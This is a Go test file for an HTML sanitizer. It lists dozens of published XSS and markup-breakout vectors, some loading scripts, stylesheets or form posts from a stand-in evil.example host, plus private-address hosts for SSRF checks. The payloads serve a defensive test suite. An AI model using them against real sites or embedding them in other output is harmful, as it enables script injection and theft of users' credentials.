@@ -1,0 +1,349 @@
+package sanitize
+
+import (
+	"fmt"
+	"math/rand/v2"
+	"slices"
+	"strings"
+	"testing"
+	"unicode/utf8"
+
+	"golang.org/x/net/html"
+)
+
+// vectors are attacks and breakouts, one of each class that is published.
+var vectors = []string{
+	`<script>alert(1)</script>正文`,
+	`<ScRiPt src=//evil.example/x.js></ScRiPt>`,
+	`<img src=x onerror=alert(1)>`,
+	`<img src="javascript:alert(1)">`,
+	`<img src='https://a.example/"onerror="alert(1)'>`,
+	"<img src=https://a.example/`onerror=alert(1) alt='`'>",
+	`<a href="java&#x09;script:alert(1)">甲</a>`,
+	`<a href=" &#14; javascript:alert(1)">甲</a>`,
+	`<a href="vbscript:msgbox(1)">甲</a><a href="data:text/html;base64,PHNjcmlwdD4=">乙</a>`,
+	`<a href="https://ok.example" onmouseover="alert(1)" style="position:fixed;inset:0">甲</a>`,
+	`<svg><script>alert(1)</script></svg>`,
+	`<svg><a xlink:href="javascript:alert(1)"><text>点</text></a></svg>`,
+	`<math><mi xlink:href="javascript:alert(1)">x</mi></math>`,
+	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
+	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
+	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
+	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
+	`<textarea><img title="</textarea><img src=x onerror=alert(1)>">`,
+	`<title><img src="</title><img src=x onerror=alert(1)>">`,
+	`<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>`,
+	`<template><img src=x onerror=alert(1)></template>`,
+	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
+	`<object data="javascript:alert(1)"><embed src="javascript:alert(1)">`,
+	`<base href="https://evil.example/"><link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content="0;url=//evil.example">`,
+	`<form action="//evil.example"><input name=password autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>交</button></form>`,
+	`<style>@import url(//evil.example)</style><p style="background:url(javascript:alert(1))">甲</p>`,
+	`<p id="location" name="cookie" class="admin">甲</p><a id=config name=x href="https://ok.example">乙</a>`,
+	`<video poster="javascript:alert(1)" src="javascript:alert(1)"><source src="javascript:alert(1)" onerror=alert(1)></video>`,
+	`<img srcset="javascript:alert(1) 1x"><picture><source srcset="data:image/svg+xml,x"><img></picture>`,
+	`<details open ontoggle=alert(1)>甲</details><marquee onstart=alert(1)>乙</marquee>`,
+	`</div></div></article></body></html><p>破出</p>`,
+	`</p></td></tr></table></li></ul><!-- <p>注释`,
+	`<!--><img src=x onerror=alert(1)>--><![CDATA[<img src=x onerror=alert(1)>]]><?php echo 1 ?>`,
+	`<p>甲<table><p>乙<td>丙<div>丁</table>戊<b>己`,
+	`<table><a href="https://ok.example/1">甲<table><a href="https://ok.example/2">乙</a></table></a></table>`,
+	`<a href="https://ok.example/1"><object><a href="https://ok.example/2">甲</a></object>乙</a>`,
+	`<ruby>一<rt>二<b><rt>三</b><rp>四<span><rt>五</ruby>`,
+	`<b><i><p>甲</b>乙</i>丙<u><ul><li>丁</u>戊<li><h1>己<h2>庚`,
+	`<select><option><p>甲</select><img src=x onerror=alert(1)>`,
+	`<p>]]&gt;&lt;script&gt;alert(1)&lt;/script&gt;]]></p>`,
+	"<img/src='https://a.example/1.png'/onload=alert(1)//\x00><scr\x00ipt>alert(1)</scr\x00ipt>",
+	`<frameset><frame src=javascript:alert(1)></frameset><head><title>题</title></head><body onload=alert(1)>甲`,
+	"<pre>\n\n\n甲</pre><pre> \n乙<b>\n丙</b></pre><pre>\r\n丁</pre>",
+}
+
+// allowed are the elements that may be published, with their attributes.
+var allowed = map[string][]string{
+	"a": {"href", "rel", "title"}, "img": {"src", "alt", "width", "height", "loading", "referrerpolicy"},
+	"p": {"align"}, "td": {"colspan", "rowspan"}, "th": {"colspan", "rowspan", "scope"},
+	"br": {}, "hr": {}, "h1": {}, "h2": {}, "h3": {}, "h4": {}, "h5": {}, "h6": {}, "ul": {}, "ol": {}, "li": {},
+	"dl": {}, "dt": {}, "dd": {}, "blockquote": {}, "pre": {}, "code": {}, "em": {}, "strong": {}, "b": {},
+	"i": {}, "u": {}, "s": {}, "sub": {}, "sup": {}, "small": {}, "ruby": {}, "rt": {}, "rp": {}, "figure": {},
+	"figcaption": {}, "table": {}, "caption": {}, "thead": {}, "tbody": {}, "tfoot": {}, "tr": {},
+}
+
+// parse returns the root of a page in which markup stands in a container, followed by a mark.
+func parse(t testing.TB, markup string) *html.Node {
+	t.Helper()
+	root, err := html.Parse(strings.NewReader(
+		`<!doctype html><body><article><div id="ours">` + markup + `</div><i id="after"></i></article>`))
+	if err != nil {
+		t.Fatalf("parse: %v", err)
+	}
+	return root
+}
+
+// dangers returns what in markup may not be published, as a browser would read it in a page.
+func dangers(t testing.TB, markup string) []string {
+	t.Helper()
+	var found []string
+	root := parse(t, markup)
+	var ours *html.Node
+	for n := range root.Descendants() {
+		if attr(n, "id") == "ours" {
+			ours = n
+		}
+	}
+	if after := ours.NextSibling; after == nil || attr(after, "id") != "after" {
+		found = append(found, "the container does not end where it should")
+	}
+	for n := range ours.Descendants() {
+		if attr(n, "id") != "after" {
+			found = append(found, dangersOf(n)...)
+		}
+	}
+	return found
+}
+
+func dangersOf(n *html.Node) []string {
+	if n.Type == html.TextNode {
+		return nil
+	}
+	names, ok := allowed[n.Data]
+	if !ok || n.Type != html.ElementNode || n.Namespace != "" {
+		return []string{fmt.Sprintf("a %q", n.Data)}
+	}
+	var found []string
+	for _, a := range n.Attr {
+		if !slices.Contains(names, a.Key) {
+			found = append(found, n.Data+" with "+a.Key)
+		}
+		if a.Key == "src" || a.Key == "href" {
+			if !strings.HasPrefix(a.Val, "https://") && !strings.HasPrefix(a.Val, "http://") && !strings.HasPrefix(a.Val, "mailto:") {
+				found = append(found, n.Data+" leads to "+a.Val)
+			}
+		}
+	}
+	return found
+}
+
+func TestNothingDangerousIsLeft(t *testing.T) {
+	for i, vector := range vectors {
+		for _, found := range dangers(t, string(Clean(vector, base).HTML)) {
+			t.Errorf("vector %d %q: %s in %q", i, vector, found, Clean(vector, base).HTML)
+		}
+	}
+}
+
+// The walk and bluemonday are two locks: each holds alone.
+func TestTheWalkHoldsAlone(t *testing.T) {
+	for i, vector := range vectors {
+		page, fault := fromTree(vector, base, maxOutput)
+		if page == nil {
+			t.Fatalf("vector %d: %s", i, fault)
+		}
+		page.w.close()
+		for _, found := range dangers(t, page.w.out.String()) {
+			t.Errorf("vector %d %q: %s in %q", i, vector, found, page.w.out.String())
+		}
+	}
+}
+
+func TestBluemondayHoldsAlone(t *testing.T) {
+	for i, vector := range vectors {
+		// What the walk might have written had it no rules at all; only the walk keeps tags balanced.
+		page := &walker{w: &writer{}}
+		page.w.out.WriteString(vector)
+		for _, found := range dangers(t, string(page.result(nil).HTML)) {
+			if !strings.Contains(found, "the container") {
+				t.Errorf("vector %d %q: %s", i, vector, found)
+			}
+		}
+	}
+}
+
+// awkward are bodies that are expensive, or that bounds cut.
+func awkward() map[string]string {
+	clones := strings.Builder{}
+	for i := range 400 {
+		fmt.Fprintf(&clones, "<b id=%d>", i)
+	}
+	return map[string]string{
+		"formatting made again": clones.String() + strings.Repeat("x<p>", 10_000),
+		"formatting in cells":   strings.Repeat("<td><b id=1></td><table><td></b></table>", 900) + strings.Repeat("农<p>", 3_000),
+		"deep":                  strings.Repeat("<div>", 5_000) + "深处的话",
+		"deep quotes":           strings.Repeat("<blockquote>", 100) + "引用里的话",
+		"deep but dissolved":    strings.Repeat("<span>", 300) + "浅处的话",
+		"many nodes":            strings.Repeat("<p>一段</p>", 3_000),
+		"open brackets":         strings.Repeat("<", 200_000) + "括号之后",
+		"quotation marks":       "引号" + strings.Repeat(`"`, 100_000),
+		"white space":           "空<pre>白" + strings.Repeat(" ", 200_000) + "</pre>",
+		"one long paragraph":    strings.Repeat("长", 200_000),
+		"long link":             `<a href="https://a.example/` + strings.Repeat("x", 2_000) + `">` + strings.Repeat("<p>链</p>", 1_000),
+		"relative addresses":    strings.Repeat("<a href=/a>甲</a>", 300),
+		"end tags":              strings.Repeat("</div></p></b>", 15_000) + "结尾之后",
+		"attributes":            "<p " + strings.Repeat("农=商 ", 20_000) + ">属性之后",
+		"open comment":          "<p>注释之前</p><!--" + strings.Repeat("-", 100_000),
+		"nested tables":         strings.Repeat("<table><tr><td>格", 200),
+	}
+}
+
+func TestBounds(t *testing.T) {
+	for name, dirty := range awkward() {
+		r := Clean(dirty, base)
+		if limit := min(2*len(dirty)+slack+4096, maxInput); len(r.HTML) > limit {
+			t.Errorf("%s: %d bytes became %d, more than %d", name, len(dirty), len(r.HTML), limit)
+		}
+		if r.Text == "" {
+			t.Errorf("%s: all text is lost", name)
+		}
+		if found := dangers(t, string(r.HTML)); found != nil {
+			t.Errorf("%s: %.200q", name, found)
+		}
+		if depth := depthOf(parse(t, string(r.HTML)), 0); depth > maxDepth+6 {
+			t.Errorf("%s: nested %d deep", name, depth)
+		}
+	}
+}
+
+func depthOf(n *html.Node, depth int) int {
+	deepest := depth
+	for c := range n.ChildNodes() {
+		deepest = max(deepest, depthOf(c, depth+1))
+	}
+	return deepest
+}
+
+func TestWhiteSpaceIsBounded(t *testing.T) {
+	r := Clean("<pre>甲"+strings.Repeat(" ", 200_000)+"乙</pre>", "")
+	if len(r.HTML) > maxSpace+50 || !strings.HasSuffix(string(r.HTML), " 乙</pre>") {
+		t.Errorf("%d bytes are left", len(r.HTML))
+	}
+}
+
+func TestFaultsSayWhatFellBack(t *testing.T) {
+	all := awkward()
+	for name, want := range map[string]string{
+		"formatting made again": "too long to parse",
+		"deep":                  "cannot be parsed",
+		"deep quotes":           "nested more than 64 deep",
+		"many nodes":            "more than 5,000 nodes",
+		"one long paragraph":    "cut at 256 KiB",
+		"long link":             "more than twice its size",
+		"quotation marks":       "too long to publish whole",
+	} {
+		if got := strings.Join(Clean(all[name], base).Faults, "; "); !strings.Contains(got, want) {
+			t.Errorf("%s: faults are %q, want %q among them", name, got, want)
+		}
+	}
+}
+
+func TestClonesAreRefusedBeforeTheParse(t *testing.T) {
+	all := awkward()
+	for _, name := range []string{"formatting made again", "formatting in cells"} {
+		if !tooCostly(all[name]) {
+			t.Errorf("%s: would be parsed", name)
+		}
+	}
+	rows := strings.Repeat("<tr><td><b>存款</b></td><td><strong>1.5%</strong></td></tr>", 300)
+	if tooCostly("<table>" + rows + "</table>") {
+		t.Error("a long table is refused")
+	}
+}
+
+func TestTextIsNotLost(t *testing.T) {
+	for _, dirty := range []string{
+		`<p>甲</p><iframe src="https://v.example/"><p>乙丙丁</p>`,
+		`<p>甲</p><IFRAME></IFRAME><iFrame><p>乙丙丁</p>`,
+		`<p>甲</p><object><p>乙丙丁</p>`,
+		`<p>甲</p></object><p>乙丙丁</p>`,
+		`<p>甲</p><svg><text>乙丙丁</text>`,
+		`<p>甲</p><select><option>乙丙丁`,
+		`<p>甲</p><noembed><p>乙丙丁</p>`,
+		`<p>甲</p><noscript><p>乙丙丁</p>`,
+	} {
+		if got := Clean(dirty, "").Text; got != "甲\n乙丙丁" && got != "甲 乙丙丁" && got != "甲\n乙丙丁</p>" {
+			t.Errorf("%s: text is %q", dirty, got)
+		}
+	}
+}
+
+func TestForbiddenCharactersNeverLeave(t *testing.T) {
+	for _, r := range []rune{0, 1, 0x0b, 0x1b, 0x7f, 0x85, 0x9f, 0x202e, 0x2066, 0x200b, 0xfeff, 0xfdd0, 0xfffd, 0xfffe, 0xffff, 0x1ffff} {
+		for _, dirty := range []string{
+			"<p>农" + string(r) + "商</p>",
+			fmt.Sprintf("<p>农&#%d;商</p>", r),
+			fmt.Sprintf(`<p>农商<img src="https://a.example/x?q=农&#%d;" alt="图&#%d;"></p>`, r, r),
+			fmt.Sprintf(`<p><a href="https://a.example/" title="图&#%d;">农商</a></p>`, r),
+		} {
+			got := Clean(dirty, "").HTML
+			if i := strings.IndexFunc(string(got), forbidden); i >= 0 || !utf8.ValidString(string(got)) {
+				t.Errorf("%U of %q left in %q", r, dirty, got)
+			}
+		}
+	}
+}
+
+func TestBytesThatAreNotUTF8NeverLeave(t *testing.T) {
+	dirty := "<p>农\xff商<a href='https://a.example/\xff' title='\xff'>行</a><img src='https://a.example/1.png' alt='图\xff'></p>"
+	r := Clean(dirty, "")
+	if !utf8.ValidString(string(r.HTML)) || !utf8.ValidString(r.Text) || r.Text != "农商行" {
+		t.Errorf("got %q, text %q", r.HTML, r.Text)
+	}
+}
+
+func TestLongAddressesAreDropped(t *testing.T) {
+	r := Clean(`<p><a href="/`+strings.Repeat("x", 3_000)+`">链接</a></p>`, base)
+	if r.HTML != "<p>链接</p>" || len(r.Faults) != 1 {
+		t.Errorf("got %.100q, faults %q", r.HTML, r.Faults)
+	}
+}
+
+func TestPublicHost(t *testing.T) {
+	for _, host := range []string{"img.example", "8.8.8.8", "2001:4860::8888", "163.com", "0x.example", "a.b.1c"} {
+		if !publicHost(host) {
+			t.Errorf("%s is refused", host)
+		}
+	}
+	for _, host := range []string{
+		"localhost", "LOCALHOST.", "a.localhost", "printer.local", "127.0.0.1", "10.1.2.3", "192.168.0.1", "169.254.169.254",
+		"100.64.0.1", "0.0.0.0", "224.0.0.1", "::1", "::", "fd00::1", "fe80::1", "::ffff:127.0.0.1", "2130706433", "0x7f.1", "127.1", "0177.0.0.1", "1.2.3.08",
+	} {
+		if publicHost(host) {
+			t.Errorf("%s is let through", host)
+		}
+	}
+}
+
+// soup returns markup of random tags, from pieces that parsers treat each in their own way.
+func soup(random *rand.Rand) string {
+	names := strings.Fields("p div span a b i u font ruby rt rp table caption tbody tr td th ul ol li dl dt dd h1 h2 pre " +
+		"blockquote center figure figcaption object iframe svg math select option textarea noscript button form template nobr")
+	var b strings.Builder
+	for range 5 + random.IntN(40) {
+		name := names[random.IntN(len(names))]
+		switch random.IntN(8) {
+		case 0, 1, 2:
+			fmt.Fprintf(&b, "<%s>", name)
+		case 3:
+			fmt.Fprintf(&b, `<%s href="/%d" align="center" style="text-align:left">`, name, random.IntN(9))
+		case 4, 5:
+			fmt.Fprintf(&b, "</%s>", name)
+		case 6:
+			b.WriteString([]string{"农", " 商 ", "\n", "来源：县报", "　", "<br>", "<hr>", `<img src="/1.png">`}[random.IntN(8)])
+		default:
+			b.WriteString("字")
+		}
+	}
+	return b.String()
+}
+
+func TestTagSoup(t *testing.T) {
+	random := rand.New(rand.NewPCG(2022, 411))
+	for range 5_000 {
+		dirty := soup(random)
+		once := Clean(dirty, base).HTML
+		if found := dangers(t, string(once)); found != nil {
+			t.Fatalf("%q: %q in %q", dirty, found, once)
+		}
+		if twice := Clean(string(once), "").HTML; twice != once {
+			t.Fatalf("%q: once %q, twice %q", dirty, once, twice)
+		}
+	}
+}
